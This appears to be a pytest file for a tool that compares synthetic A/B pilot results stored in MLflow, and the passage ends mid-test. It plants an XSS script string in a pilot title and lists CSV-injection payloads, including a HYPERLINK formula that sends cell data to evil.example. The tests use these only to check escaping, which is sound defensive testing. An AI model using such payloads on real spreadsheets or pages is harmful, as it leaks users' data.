"""labkit compare: the portfolio over real sqlite MLflow stores built with ``Tracker.record``.

The stores hold synthetic runs whose numbers are made here from (effect, se) per arm, so every
expectation (pooled gain, totals, ROI) is computed independently in the test: the meta-analysis against
statsmodels' ``combine_effects`` (DerSimonian–Laird), the sums by hand.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import json
import math
import os
import re
import shutil
import struct
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from scipy.stats import norm

from labkit.compare import GroupSummary, PilotRow, portfolio, summarize
from labkit.errors import LabkitError
from labkit.lab import load_lab
from labkit.report import forest_lines, forest_png, render, to_csv, to_html
from labkit.tracking import RunRecord, Tracker, flatten_params, metrics_from_results

from conftest import LAB_YAML, REPO

SCRIPT = '<script>alert("pwned")</script>'
PILOTS = [
    dict(id="svc-fast-reply", function="service", channel="twitter", stage="retention", metric="churned",
         direction="decrease", decision="ship", mean=0.10, arms={"fast": (-0.025, 0.008)}, n=1000, cost=4000,
         vpu=180, started="2026-03-01"),
    dict(id="svc-community", function="service", channel="community", stage="service", metric="tickets",
         direction="decrease", decision="inconclusive", mean=2.0, arms={"forum": (-0.05, 0.06)}, n=800,
         cost=2500, vpu=30, started="2026-03-05"),
    dict(id="svc-email-csat", function="service", channel="email", stage="retention", metric="csat",
         direction="increase", decision="no-effect", mean=4.0, arms={"survey": (0.01, 0.02)}, n=1200,
         cost=1500, vpu=50, started="2026-03-10", alpha=0.1),
    dict(id="mkt-linkedin-ads", function="marketing", channel="linkedin", stage="acquisition", metric="signups",
         direction="increase", decision="ship", mean=0.05,
         arms={"a": (0.004, 0.003), "b": (0.012, 0.004), "c": (-0.002, 0.003)}, n=2000, cost=9000, vpu=400,
         started="2026-02-01", spec_changed=True),
    dict(id="mkt-email-nudge", function="marketing", channel="email", stage="onboarding", metric="activated",
         direction="increase", decision="harm", mean=0.3, arms={"nudge": (-0.04, 0.015)}, n=1500, cost=3000,
         vpu=60, started="2026-02-15", title=f"Nudge {SCRIPT} & co"),
    dict(id="sales-warm-intro", function="sales", channel="linkedin", stage="acquisition", metric="deals",
         direction="increase", decision="ship", mean=0.02, arms={"intro": (0.01, 0.004)}, n=500, cost=5000,
         vpu=3000, started="2025-06-01", data_changed=True),
]  # fmt: skip
BY_ID = {p["id"]: p for p in PILOTS}


def epoch(day: str) -> float:
    return dt.datetime.fromisoformat(day).replace(tzinfo=dt.UTC).timestamp()


def results_for(p: dict) -> dict:
    """The results.json of a synthetic pilot: primary and a secondary row per arm, ROI as analysis computes it."""
    alpha = p.get("alpha", 0.05)
    z = norm.ppf(1 - alpha / 2)
    sign = 1 if p["direction"] == "increase" else -1
    rows, value, low, high = [], 0.0, 0.0, 0.0
    for arm, (effect, se) in p["arms"].items():
        lo, hi = effect - z * se, effect + z * se
        rows.append({"metric": p["metric"], "role": "primary", "arm": arm, "control_arm": "control",
                     "n_control": p["n"], "n_treatment": p["n"], "mean_control": p["mean"],
                     "mean_treatment": p["mean"] + effect, "effect": effect, "ci_low": lo, "ci_high": hi,
                     "lift": effect / p["mean"], "lift_ci_low": lo / p["mean"], "lift_ci_high": hi / p["mean"],
                     "p_value": 0.01, "p_value_adjusted": 0.02, "method": "z-test"})  # fmt: skip
        rows.append({"metric": "replies", "role": "secondary", "arm": arm, "effect": 9.0, "ci_low": 8.0,
                     "ci_high": 10.0, "lift": 5.0, "lift_ci_low": 4.0, "lift_ci_high": 6.0})  # fmt: skip
        unit = p["vpu"] * p["n"] * sign
        value += effect * unit
        low += min(lo * unit, hi * unit)
        high += max(lo * unit, hi * unit)
    cost = p["cost"]
    roi = {"value": value, "value_ci_low": low, "value_ci_high": high, "cost": cost,
           "roi": (value - cost) / cost, "roi_ci_low": (low - cost) / cost, "roi_ci_high": (high - cost) / cost}  # fmt: skip
    counts = {"control": p["n"], **{arm: p["n"] for arm in p["arms"]}}
    return {"pilot": p["id"], "decision": p["decision"], "metrics": rows, "roi": roi,
            "srm": {"p_value": 0.5, "ok": True, "counts": counts},
            "meta": {"exposed": sum(counts.values())}}  # fmt: skip


def record_for(
    p: dict, *, started: float | None = None, status="FINISHED", decision=None, key=""
) -> RunRecord:
    started = epoch(p["started"]) if started is None else started
    spec = {"id": p["id"], "title": p.get("title", f"Pilot {p['id']}"), "function": p["function"],
            "channel": p["channel"], "stage": p["stage"],
            "hypothesis": {"statement": f"{p['id']} moves {p['metric']} ({p['direction']}).",
                           "metric": p["metric"], "direction": p["direction"], "mde": {"relative": 0.1}},
            "analysis": {"alpha": p.get("alpha")}}  # fmt: skip
    decision = decision or p["decision"]
    tags = {"labkit.function": p["function"], "labkit.channel": p["channel"], "labkit.stage": p["stage"],
            "labkit.decision": decision, "labkit.spec_changed": "true" if p.get("spec_changed") else "false"}  # fmt: skip
    if p.get("data_changed"):
        tags["labkit.data_changed"] = "true"
    return RunRecord(
        pilot=p["id"], run_name=f"{p['id']} {key or p['started']}", status=status,
        run_key=f"{p['id']}/{key or p['started']}", tags=tags, params=flatten_params(spec),
        metrics=metrics_from_results(results_for(p)) if status == "FINISHED" else {},
        description=f"Hypothesis: {spec['hypothesis']['statement']}\nDecision: {decision}.",
        started_at=started, ended_at=started + 60,
    )  # fmt: skip


@pytest.fixture(autouse=True)
def _restore_mlflow_env():
    before = {k: v for k, v in os.environ.items() if k.startswith("MLFLOW_")}
    yield
    for key in [k for k in os.environ if k.startswith("MLFLOW_")]:
        if key not in before:
            del os.environ[key]
    os.environ.update(before)


def new_lab(root: Path, template: Path | None, lab_yaml: str = LAB_YAML):
    (root / "configs").mkdir(parents=True, exist_ok=True)
    (root / "configs" / "lab.yaml").write_text(lab_yaml)
    if template is not None:
        (root / "results").mkdir(exist_ok=True)
        shutil.copyfile(template, root / "results" / "mlflow.db")
    return load_lab(root)


@pytest.fixture(scope="module")
def lab(tmp_path_factory, empty_store):
    """Six finished pilots over three functions, plus a re-run, a RUNNING re-run, failed and running-only pilots."""
    saved = {k: v for k, v in os.environ.items() if k.startswith("MLFLOW_")}
    lab = new_lab(tmp_path_factory.mktemp("lab"), empty_store)
    tracker = Tracker(lab)
    started = time.perf_counter()
    for p in PILOTS:
        tracker.record(record_for(p))
    # an older run of a pilot: not its latest, so its decision must not show
    tracker.record(
        record_for(BY_ID["svc-fast-reply"], started=epoch("2026-01-01"), decision="harm", key="old")
    )
    # a pilot re-running right now: its newest run is RUNNING
    tracker.start("svc-community", "svc-community now", "svc-community/now", {"labkit.function": "service"})
    # a look back in flight (`labkit run --as-of` an early date): RUNNING now, but it will not replace the
    # numbers of the latest run, which looked later: no flag
    tracker.start(
        "sales-warm-intro", "sales-warm-intro look back", "sales-warm-intro/back",
        {"labkit.function": "sales", "labkit.look": "2025-01-01T00:00:00.000Z"},
    )  # fmt: skip
    # a PR pilot that only ever failed, and one whose first run is still RUNNING
    failed = dict(
        BY_ID["sales-warm-intro"], id="pr-press", function="pr", channel="email", started="2026-03-02"
    )
    tracker.record(record_for(failed, status="FAILED", key="f1"))
    tracker.record(record_for(failed, status="FAILED", key="f2"))
    tracker.start("pr-live", "pr-live now", "pr-live/now", {"labkit.function": "pr"})
    # an abandoned re-run: RUNNING, but its process is gone (what `labkit run` would sweep): no flag
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tracker.start("svc-fast-reply", "svc-fast-reply crashed", "svc-fast-reply/crashed", {})
    tracker._client.set_tag(stale, "labkit.sys.pid", str(dead.pid))
    print(f"recorded the compare store in {time.perf_counter() - started:.1f} s")
    yield lab
    os.environ.update(saved)


@pytest.fixture(scope="module")
def folio(lab):
    return portfolio(lab)


def rows_of(folio) -> dict[str, PilotRow]:
    return {r.pilot: r for r in folio.pilots}


def groups_of(folio) -> dict[str, GroupSummary]:
    return {g.group: g for g in folio.groups}


def expected_gain(p: dict, arm: str) -> tuple[float, float]:
    """(gain, variance of the gain) of one arm, from the synthetic effect and se."""
    effect, se = p["arms"][arm]
    sign = 1 if p["direction"] == "increase" else -1
    return sign * effect / p["mean"], (se / p["mean"]) ** 2


# ------------------------------------------------------------------------- pilot rows


def test_one_row_per_finished_pilot_from_its_latest_run(folio):
    rows = rows_of(folio)
    assert set(rows) == set(BY_ID)  # no failed-only or running-only pilot, no old run
    fast = rows["svc-fast-reply"]
    assert fast.decision == "ship"  # the latest run's, not the older run's "harm"
    assert (fast.function, fast.channel, fast.stage) == ("service", "twitter", "retention")
    assert fast.primary_metric == "churned" and fast.direction == "decrease" and fast.arm == "fast"
    assert fast.effect == pytest.approx(-0.025)
    assert fast.lift == pytest.approx(-0.25) and fast.gain == pytest.approx(0.25)
    assert fast.gain_ci_low == pytest.approx(-fast.lift_ci_high) and fast.gain_ci_high == pytest.approx(
        -fast.lift_ci_low
    )
    assert fast.exposed == 2000 and fast.cost == 4000
    roi = results_for(BY_ID["svc-fast-reply"])["roi"]
    assert (fast.value, fast.value_ci_low, fast.value_ci_high) == pytest.approx(
        (roi["value"], roi["value_ci_low"], roi["value_ci_high"])
    )
    assert (fast.roi, fast.roi_ci_low, fast.roi_ci_high) == pytest.approx(
        (roi["roi"], roi["roi_ci_low"], roi["roi_ci_high"])
    )
    assert fast.hypothesis == "svc-fast-reply moves churned (decrease)."
    assert "Decision: ship" in fast.description


def test_multi_arm_pilot_shows_its_best_arm_by_gain(folio):
    row = rows_of(folio)["mkt-linkedin-ads"]
    assert row.arm == "b" and row.arms == 3
    assert row.gain == pytest.approx(0.012 / 0.05)
    assert row.exposed == 8000
    assert row.value == pytest.approx(results_for(BY_ID["mkt-linkedin-ads"])["roi"]["value"])  # all arms


def test_flags_spec_changed_data_changed_and_running(folio):
    rows = rows_of(folio)
    assert [p for p, r in rows.items() if r.spec_changed] == ["mkt-linkedin-ads"]
    assert [p for p, r in rows.items() if r.data_changed] == ["sales-warm-intro"]
    assert [p for p, r in rows.items() if r.running] == ["svc-community"]  # not svc-fast-reply's dead run
    assert folio.running_only == ("pr-live",)
    assert any(
        w.startswith("mkt-linkedin-ads: its hypothesis, metrics or cohort changed") for w in folio.warnings
    )


def test_primary_metric_direction_and_decision_fall_back_to_results_json(tmp_path, empty_store):
    """A run recorded without the hypothesis params or the decision tag: compare reads results.json."""
    bare = new_lab(tmp_path / "bare", empty_store)
    p = BY_ID["svc-fast-reply"]
    results = results_for(p) | {
        "meta": {"exposed": 2000, "primary_metric": "churned", "direction": "decrease"}
    }
    (tmp_path / "results.json").write_text(json.dumps(results))
    record = record_for(p)
    tags = {k: v for k, v in record.tags.items() if k != "labkit.decision"}
    params = {k: v for k, v in record.params.items() if not k.startswith("hypothesis.")}
    Tracker(bare).record(
        RunRecord(
            **(
                record.__dict__
                | {"tags": tags, "params": params, "artifacts": [str(tmp_path / "results.json")]}
            )
        )
    )
    row = portfolio(bare).pilots[0]
    assert (row.primary_metric, row.direction, row.decision, row.arm) == (
        "churned",
        "decrease",
        "ship",
        "fast",
    )
    assert row.gain == pytest.approx(0.25)


def test_every_run_carries_its_gain_under_one_name_for_the_mlflow_ui(folio, lab):
    """metrics `gain_pct`, `gain_pct_ci_low`, `gain_pct_ci_high`: the row's gain and interval in percent, one
    column for every pilot."""
    from labkit.tracking.reader import open_runs

    metrics = {r["pilot"]: r["metrics"] for r in open_runs(lab).latest_runs()}
    for row in folio.pilots:
        p = BY_ID[row.pilot]
        results = results_for(p) | {"meta": {"direction": p["direction"], "primary_metric": p["metric"]}}
        gains = {arm: expected_gain(p, arm)[0] for arm in p["arms"]}
        best = max(gains.values())
        got = metrics_from_results(results)
        # percentages for reading, to hundredths of a point
        assert got["gain_pct"] == pytest.approx(100 * best, abs=0.005) and best == pytest.approx(row.gain)
        assert (got["gain_pct_ci_low"], got["gain_pct_ci_high"]) == pytest.approx(
            (100 * row.gain_ci_low, 100 * row.gain_ci_high), abs=0.005
        )
        assert got["gain_pct_ci_low"] < got["gain_pct"] < got["gain_pct_ci_high"]
        assert "gain_pct" not in metrics[row.pilot]  # these synthetic runs carry no direction in their meta
        # ROI is recomputed from value and cost exactly; the run shows it as a rounded percentage
        assert row.roi == pytest.approx(results["roi"]["roi"], rel=1e-12) and "roi" not in metrics[row.pilot]
        assert metrics[row.pilot]["roi_pct"] == pytest.approx(100 * results["roi"]["roi"], abs=0.005)


# ------------------------------------------------------------------------- the sqlite reader


def test_the_sqlite_reader_returns_what_mlflow_search_returns(lab, tmp_path):
    """compare reads a local sqlite store with plain SELECTs (labkit.tracking.reader.SqliteRuns) instead of paying
    seconds for MLflow's import and schema check; over the module's store — finished runs, an older run, a
    RUNNING re-run, FAILED-only and RUNNING-only pilots, an abandoned run — every call must return exactly
    what MLflow's own search returns."""
    from labkit.tracking.reader import SqliteRuns, TrackerRuns

    # on the installed MLflow's schema, known to the reader or not (this is the check before adding it)
    fast, slow = SqliteRuns.open(lab, any_revision=True), TrackerRuns(lab)
    for function in (None, "service", "sales", "pr", "nobody"):
        assert fast.latest_runs(function=function) == slow.latest_runs(function=function)
        for status in (None, "FINISHED", "FAILED", "RUNNING"):
            got = fast.pilot_runs(status=status, function=function)
            assert got == slow.pilot_runs(status=status, function=function), (function, status)
    assert len(fast.pilot_runs()) > len(fast.latest_runs()) > 0


def test_the_sqlite_reader_joins_split_params_and_reads_artifacts_like_mlflow(tmp_path, empty_store):
    bare = new_lab(tmp_path / "bare", empty_store)
    p = dict(BY_ID["svc-fast-reply"])
    record = record_for(p)
    long = "A hypothesis well over MLflow's 6,000-character parameter limit. " * 200
    spec_params = flatten_params({"hypothesis": {"statement": long}})
    (tmp_path / "results.json").write_text(json.dumps(results_for(p)))
    Tracker(bare).record(
        RunRecord(**(record.__dict__ | {"params": record.params | spec_params,
                                         "artifacts": [str(tmp_path / "results.json")]}))
    )  # fmt: skip
    from labkit.tracking.reader import SqliteRuns, TrackerRuns

    fast, slow = SqliteRuns.open(bare, any_revision=True), TrackerRuns(bare)
    [run] = fast.latest_runs()
    assert run == slow.latest_runs()[0] and run["params"]["hypothesis.statement"] == long
    assert fast.results_json(run) == slow.results_json(run) == results_for(p)


def test_compare_is_the_same_through_either_reader(lab, monkeypatch):
    import labkit.tracking.reader

    fast = portfolio(lab).to_dict()
    monkeypatch.setattr(labkit.tracking.reader.SqliteRuns, "open", classmethod(lambda cls, lab: None))
    slow = portfolio(lab).to_dict()
    fast.pop("generated_at"), slow.pop("generated_at")
    assert fast == slow


def test_an_unknown_schema_revision_is_read_through_mlflow(tmp_path, empty_store):
    import sqlite3

    from labkit.tracking.reader import SqliteRuns, TrackerRuns, open_runs

    other = new_lab(tmp_path / "other", empty_store)
    assert SqliteRuns.open(other, any_revision=True) is not None
    with sqlite3.connect(other.results_dir / "mlflow.db") as con:
        con.execute("UPDATE alembic_version SET version_num = 'f00dbeef'")
    assert SqliteRuns.open(other) is None
    assert isinstance(open_runs(load_lab(other.root)), TrackerRuns)


def test_the_installed_mlflows_schema_revision_is_one_the_reader_knows():
    """The fast path of compare needs the store's schema revision in ``KNOWN_REVISIONS``. A newer MLflow's
    is not, until someone checks it: compare then reads through MLflow — exact, read-only
    (::test_compare_through_mlflow_writes_nothing_to_the_store), seconds slower — so a fresh machine that
    installs an MLflow released after this list was written gets an expected failure naming what to do,
    not a red suite. The reader's equality tests above run on the installed revision either way."""
    import mlflow

    from labkit.tracking.reader import KNOWN_REVISIONS
    from labkit.tracking.schema import schema_head

    head = schema_head()
    if head not in KNOWN_REVISIONS:
        pytest.xfail(
            f"MLflow {mlflow.__version__}'s schema revision {head} is not in labkit.tracking.reader."
            "KNOWN_REVISIONS: compare reads through MLflow (exact, slower). If the sqlite reader tests of this "
            "module pass on it and its migrations touch none of experiments, runs, tags, params and "
            "latest_metrics, add it"
        )


def test_compare_through_mlflow_writes_nothing_to_the_store(tmp_path, empty_store, monkeypatch):
    """`labkit compare` only reads, also where MLflow reads the store (here: a schema revision the sqlite
    reader does not know, as after an MLflow upgrade). It created the experiment of a name not in the store
    and saved the leadership view where it was missing; now every byte under results/ stays as it was, and a
    half-built store is reported in one line, not given MLflow's tables."""
    import hashlib
    import sqlite3

    import labkit.tracking.reader
    from labkit.tracking.view import leadership_view

    monkeypatch.setattr(labkit.tracking.reader, "KNOWN_REVISIONS", frozenset())
    lab = new_lab(tmp_path / "ro", empty_store)
    tracker = Tracker(lab)
    for p in PILOTS[:2]:
        tracker.record(record_for(p))
    key, _ = leadership_view(created_ms=0)
    with contextlib.closing(sqlite3.connect(lab.results_dir / "mlflow.db")) as con, con:
        assert con.execute("DELETE FROM experiment_tags WHERE key = ?", (key,)).rowcount == 1

    def results() -> dict[str, str]:
        return {
            str(path.relative_to(lab.results_dir)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(lab.results_dir.rglob("*")) if path.is_file()
        }  # fmt: skip

    before = results()
    [out] = cli_outputs(["compare", "--lab", str(lab.root), "--format", "json"])
    assert {p["pilot"] for p in json.loads(out)["pilots"]} == {p["id"] for p in PILOTS[:2]}
    missing = LAB_YAML.replace("mlflow_experiment: tiny-pilots", "mlflow_experiment: not-in-the-store")
    (lab.root / "configs" / "lab.yaml").write_text(missing)
    cli_errors((lab.root, r"^no pilot runs in MLflow experiment 'not-in-the-store' at sqlite:///"))
    assert results() == before

    half = new_lab(tmp_path / "half", None)
    half.results_dir.mkdir()
    store = half.results_dir / "mlflow.db"
    with contextlib.closing(sqlite3.connect(store)) as con:
        con.execute("CREATE TABLE runs (run_uuid TEXT)")  # MLflow's creation, killed after one table
    built = store.read_bytes()
    cli_errors((half.root, r"^the MLflow store sqlite:///\S+ is half-built .* so there is nothing to read;"))
    assert store.read_bytes() == built and [p.name for p in half.results_dir.iterdir()] == ["mlflow.db"]


# ------------------------------------------------------------------------- groups


def test_pooled_gain_matches_statsmodels_dersimonian_laird(folio):
    from statsmodels.stats.meta_analysis import combine_effects

    service = groups_of(folio)["service"]
    ids = ["svc-fast-reply", "svc-community", "svc-email-csat"]
    arms = {"svc-fast-reply": "fast", "svc-community": "forum", "svc-email-csat": "survey"}
    effects, variances = zip(*(expected_gain(BY_ID[i], arms[i]) for i in ids))
    ref = combine_effects(np.array(effects), np.array(variances), method_re="dl")
    assert ref.tau2 > 0  # heterogeneous: statsmodels' untruncated τ² equals labkit's
    ci_low, ci_high = ref.conf_int(alpha=0.05, use_t=False)[1]  # the random-effects row
    assert service.pooled_k == 3
    assert service.pooled_gain == pytest.approx(ref.mean_effect_re, rel=1e-6)
    assert (service.pooled_gain_ci_low, service.pooled_gain_ci_high) == pytest.approx(
        (ci_low, ci_high), rel=1e-6
    )
    assert service.tau2 == pytest.approx(ref.tau2, rel=1e-6)
    assert service.i2 == pytest.approx(ref.i2, rel=1e-6)
    assert service.q == pytest.approx(ref.q, rel=1e-6)

    marketing = groups_of(folio)["marketing"]  # the multi-arm pilot enters with its best arm
    effects, variances = zip(
        expected_gain(BY_ID["mkt-linkedin-ads"], "b"), expected_gain(BY_ID["mkt-email-nudge"], "nudge")
    )
    ref = combine_effects(np.array(effects), np.array(variances), method_re="dl")
    assert marketing.pooled_gain == pytest.approx(ref.mean_effect_re, rel=1e-6)
    assert marketing.tau2 == pytest.approx(max(ref.tau2, 0.0), rel=1e-6)


def test_homogeneous_pilots_truncate_tau2_at_zero_where_statsmodels_does_not():
    from statsmodels.stats.meta_analysis import combine_effects

    base = dict(
        function="service", channel="email", stage="retention", title=None, hypothesis=None, primary_metric="m",
        direction="increase", arm="t", arms=1, effect=None, effect_ci_low=None, effect_ci_high=None, lift=None,
        lift_ci_low=None, lift_ci_high=None, p_value_adjusted=None, decision="ship", exposed=None, cost=None,
        value=None, value_ci_low=None, value_ci_high=None, roi=None, roi_ci_low=None, roi_ci_high=None,
        spec_changed=False, data_changed=False, running=False, alpha=0.05, run_id="r", run_name=None,
        started_at=None, description=None,
    )  # fmt: skip
    z = norm.ppf(0.975)
    gains, ses = [0.10, 0.11, 0.105], [0.05, 0.06, 0.04]
    rows = [PilotRow(pilot=f"p{i}", gain=g, gain_ci_low=g - z * s, gain_ci_high=g + z * s, **base)
            for i, (g, s) in enumerate(zip(gains, ses))]  # fmt: skip
    group = summarize("service", rows)
    ref = combine_effects(np.array(gains), np.array(ses) ** 2, method_re="dl")
    assert ref.tau2 < 0  # statsmodels leaves the DL moment estimate negative …
    assert group.tau2 == 0.0 and group.i2 == 0.0  # … labkit truncates it, so pooled = fixed effect
    assert group.pooled_gain == pytest.approx(ref.mean_effect_fe, rel=1e-9)
    assert group.pooled_gain_ci_low == pytest.approx(ref.conf_int(use_t=False)[0][0], rel=1e-9)


def test_group_of_one_is_shown_as_such_not_pooled(folio):
    sales = groups_of(folio)["sales"]
    assert sales.pilots == 1 and sales.pooled_k == 1
    assert sales.pooled_gain is None and sales.tau2 is None and sales.i2 is None
    assert "not pooled" in sales.note and "sales-warm-intro" in sales.note
    table = render(folio, "table")
    assert re.search(r"1 pilot, not pooled:\s+│.*\n.*\+50\.0% \[\+10\.8%, \+89\.2%\]", table)


def test_tally_win_rate_value_and_roi_of_each_group(folio):
    groups = groups_of(folio)
    service = groups["service"]
    assert service.decisions == {"ship": 1, "harm": 0, "no-effect": 1, "inconclusive": 1, "invalid": 0}
    assert service.decided == 2 and service.win_rate == pytest.approx(0.5)  # ship / (ship + harm + no-effect)
    marketing = groups["marketing"]
    assert marketing.win_rate == pytest.approx(0.5)
    for name, group in groups.items():
        members = [p for p in PILOTS if p["function"] == name]
        rois = [results_for(p)["roi"] for p in members]
        value = sum(r["value"] for r in rois)
        low, high = sum(r["value_ci_low"] for r in rois), sum(r["value_ci_high"] for r in rois)
        cost = sum(p["cost"] for p in members)
        assert group.value == pytest.approx(value)
        assert (group.value_ci_low, group.value_ci_high) == pytest.approx((low, high))  # bounds add up
        assert group.cost == pytest.approx(cost)
        assert group.roi == pytest.approx((value - cost) / cost)
        assert (group.roi_ci_low, group.roi_ci_high) == pytest.approx(
            ((low - cost) / cost, (high - cost) / cost)
        )
        assert group.value_ci_low <= group.value <= group.value_ci_high
    rois = [g.roi for g in folio.groups]
    assert rois == sorted(rois, reverse=True)  # highest ROI first
    assert folio.answer.startswith(f"highest ROI: function '{folio.groups[0].group}'")


def test_grouping_by_channel_and_stage(lab):
    by_channel = portfolio(lab, by="channel")
    assert set(groups_of(by_channel)["linkedin"].pilot_ids) == {"mkt-linkedin-ads", "sales-warm-intro"}
    assert groups_of(by_channel)["email"].pilots == 2
    by_stage = portfolio(lab, by="stage")
    assert {g.group: g.pilots for g in by_stage.groups} == {"retention": 2, "service": 1, "acquisition": 2,
                                                            "onboarding": 1}  # fmt: skip
    with pytest.raises(
        LabkitError, match=r"--by: unknown grouping 'owner'; allowed: function, channel, stage"
    ):
        portfolio(lab, by="owner")


# ------------------------------------------------------------------------- filters


def test_filters_function_since_and_decision(lab):
    assert {r.pilot for r in portfolio(lab, function="marketing").pilots} == {
        "mkt-linkedin-ads",
        "mkt-email-nudge",
    }
    assert "sales-warm-intro" not in {r.pilot for r in portfolio(lab, since="2026-01-01").pilots}
    assert {r.pilot for r in portfolio(lab, since="2026-03-05").pilots} == {"svc-community", "svc-email-csat"}
    shipped = portfolio(lab, decision="ship")
    assert {r.pilot for r in shipped.pilots} == {"svc-fast-reply", "mkt-linkedin-ads", "sales-warm-intro"}
    assert shipped.filters == {"decision": "ship"}
    both = portfolio(lab, function="service", decision="ship", since="2026-02-01")
    assert [r.pilot for r in both.pilots] == ["svc-fast-reply"]
    with pytest.raises(LabkitError, match=r"--decision: unknown decision 'won'; allowed: ship, harm"):
        portfolio(lab, decision="won")
    with pytest.raises(LabkitError, match=r"--function: unknown function 'legal'; allowed: sales, marketing"):
        portfolio(lab, function="legal")
    with pytest.raises(LabkitError, match=r"--since: 'last week' is not an ISO date"):
        portfolio(lab, since="last week")
    with pytest.raises(LabkitError, match=r"no pilot's latest run matches --function pr in .*\(6 pilot\(s\)"):
        portfolio(lab, function="pr")
    with pytest.raises(
        LabkitError, match=r"matches --function sales --decision harm .*\(1 pilot\(s\) without"
    ):
        portfolio(lab, function="sales", decision="harm")


# ------------------------------------------------------------------------- formats


def test_json_format_parses_and_carries_everything(folio):
    data = json.loads(render(folio, "json"))
    assert data["by"] == "function" and data["answer"] == folio.answer
    assert {p["pilot"] for p in data["pilots"]} == set(BY_ID)
    assert {g["group"] for g in data["groups"]} == {"service", "marketing", "sales"}
    service = next(g for g in data["groups"] if g["group"] == "service")
    assert (
        service["pooled_gain"] == folio.groups[[g.group for g in folio.groups].index("service")].pooled_gain
    )
    assert data["running_only"] == ["pr-live"]


def round_trip(pd) -> dict:
    """read_csv's arguments for floats read back exactly: pandas 3 does by default (and deprecates the
    argument, Pandas4Warning); pandas 2, which labkit also allows, needs ``float_precision="round_trip"``."""
    return {"float_precision": "round_trip"} if int(pd.__version__.split(".")[0]) < 3 else {}


def test_csv_reads_back_with_pandas_equal_to_the_rows(folio):
    import pandas as pd

    frame = pd.read_csv(io.StringIO(to_csv(folio)), **round_trip(pd))
    expected = pd.DataFrame([r.to_dict() for r in folio.pilots])
    assert list(frame.columns) == list(PilotRow.__dataclass_fields__) == list(expected.columns)
    assert len(frame) == len(folio.pilots)
    for column in expected.columns:
        got, want = frame[column].tolist(), expected[column].tolist()
        norm_ = [None if (isinstance(v, float) and math.isnan(v)) else v for v in got]
        want = [None if (isinstance(v, float) and math.isnan(v)) else v for v in want]
        assert norm_ == want, column
    assert frame.loc[frame.pilot == "mkt-email-nudge", "title"].item() == f"Nudge {SCRIPT} & co"


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula


@settings(max_examples=100, deadline=None)
@given(
    # no CR: pilot text cannot hold one (labkit._validation.bad_text), and pandas quotes only what is in its
    # "\n" line terminator
    title=st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00\r"), max_size=24),
    hypothesis=st.sampled_from(
        ['=HYPERLINK("https://evil.example/?"&A1,"Reply fast")', "+5% replies", "-10% churn", "@SUM(A1)", "\tx",
         "Fast replies lower churn."]
    ),
)  # fmt: skip
def test_no_text_cell_of_the_csv_runs_as_a_formula_and_numbers_stay_numbers(folio, title, hypothesis):
    """CSV injection (OWASP): leadership opens `compare --format csv` in a spreadsheet, which runs a cell that
    starts with = + - @, a tab or a carriage return as a formula (a pilot's title can send the sheet away).
    Any title, and each such hypothesis, comes back as text with a leading apostrophe, any other text as
    written; a negative effect stays a number."""
    import csv

    row = next(r for r in folio.pilots if r.pilot == "svc-fast-reply")
    tampered = replace(
        folio,
        pilots=tuple(replace(r, title=title, hypothesis=hypothesis) if r is row else r for r in folio.pilots),
    )
    (cells,) = [c for c in csv.DictReader(io.StringIO(to_csv(tampered))) if c["pilot"] == row.pilot]
    for key, sent in (("title", title), ("hypothesis", hypothesis)):
        assert cells[key] == (
            "'" + sent if sent.startswith(FORMULA_START) and sent not in ("+", "-") else sent
        ), key
        assert not cells[key].startswith(FORMULA_START) or cells[key] in ("+", "-")
    assert float(cells["effect"]) == row.effect < 0


def test_html_is_one_self_contained_escaped_file(folio, tmp_path):
    text = to_html(folio)
    assert 'src="http' not in text and 'href="http' not in text and "<link" not in text
    assert '<img class="forest" alt="forest plot' in text and 'src="data:image/svg+xml;base64,' in text
    assert "<script" not in text  # the planted title is escaped
    assert "&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt; &amp; co" in text
    for pilot in BY_ID:
        assert pilot in text
    assert "svc-fast-reply moves churned (decrease)." in text  # each pilot's hypothesis …
    assert "Decision: harm." in text  # … and decision
    assert "spec changed" in text and "running" in text
    svg = re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', text)[1]
    import base64

    drawn = base64.b64decode(svg).decode()
    # drawn to the page's width: a viewBox, and text as paths (no pilot's label as markup in the SVG)
    assert "<svg" in drawn and "viewBox=" in drawn and "<script" not in drawn and "pwned" not in drawn
    assert "img.forest{width:100%" in text


def test_html_renders_markdown_links_runs_and_reports_and_shows_no_local_path(folio, lab, tmp_path):
    """Issue #14: the report printed raw Markdown (`**SHIP** · **…**`), repeated each pilot under its
    hypotheses, linked nowhere and showed the local sqlite path in its header."""
    from dataclasses import replace

    from bs4 import BeautifulSoup

    from labkit.report import markdown_html

    fast = next(r for r in folio.pilots if r.pilot == "svc-fast-reply")
    folder = Path(folio.root) / "results" / fast.pilot / "runs" / "20260301T000000Z"
    folder.mkdir(parents=True)
    (folder / "report.html").write_text("<html>report</html>")
    description = (
        "Decision ship · Recommendation rework (fast) · ROI -5.0 %\n\n**Title <b>x</b>** (service)\n\n"
        "**Recommendation: rework.** Effective but not yet paying back: `churned`\n\n"
        "**Warnings.**\n- one **thing**\n- two"
    )
    pilots = tuple(
        replace(
            r, description=description, run_url="http://127.0.0.1:5000/#/experiments/1/runs/" + r.run_id,
            notebook_report="results/svc-fast-reply/runs/20260301T000000Z/report.html",
        ) if r.pilot == fast.pilot else r
        for r in folio.pilots
    )  # fmt: skip
    out = tmp_path / "site" / "portfolio.html"
    text = to_html(replace(folio, pilots=pilots), output=out)
    assert "**" not in text and "`" not in text  # rendered, not printed
    assert "<b>Title &lt;b&gt;x&lt;/b&gt;</b>" in text  # rendered and still escaped
    assert "<ul><li>one <b>thing</b></li><li>two</li></ul>" in text
    assert str(lab.root) not in text and "mlflow.db" not in text and "sqlite" not in text  # no local path
    soup = BeautifulSoup(text, "html.parser")
    hrefs = [a["href"] for a in soup.find_all("a")]
    assert f"http://127.0.0.1:5000/#/experiments/1/runs/{fast.run_id}" in hrefs
    report = next(h for h in hrefs if h.endswith("report.html"))
    assert not report.startswith("/") and (out.parent / report).resolve() == (folder / "report.html")
    # each pilot once under the decisions: one section per pilot, its hypothesis said once
    sections = soup.find_all("section", class_="pilot")
